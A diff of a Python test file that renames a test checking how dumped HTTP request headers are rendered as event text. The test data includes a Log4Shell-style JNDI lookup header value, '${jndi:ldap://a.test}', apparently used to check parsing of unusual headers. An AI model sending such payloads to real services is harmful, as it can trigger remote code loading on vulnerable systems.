@@ -39,7 +39,7 @@ def test_the_columns(read) -> None:
     assert event.items() >= wanted.items()
 
 
-def test_headers_are_told_where_they_are_dumped_and_strange(read) -> None:
+def test_headers_are_in_the_text_where_they_are_dumped_and_unusual(read) -> None:
     dumped = [{"name": "Accept", "value": "*/*"}, {"name": "X-Api-Version", "value": "${jndi:ldap://a.test}"}, 7]
     event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": dumped})
     assert event["text"] == "HTTP GET / headers=x-api-version: ${jndi:ldap://a.test}"
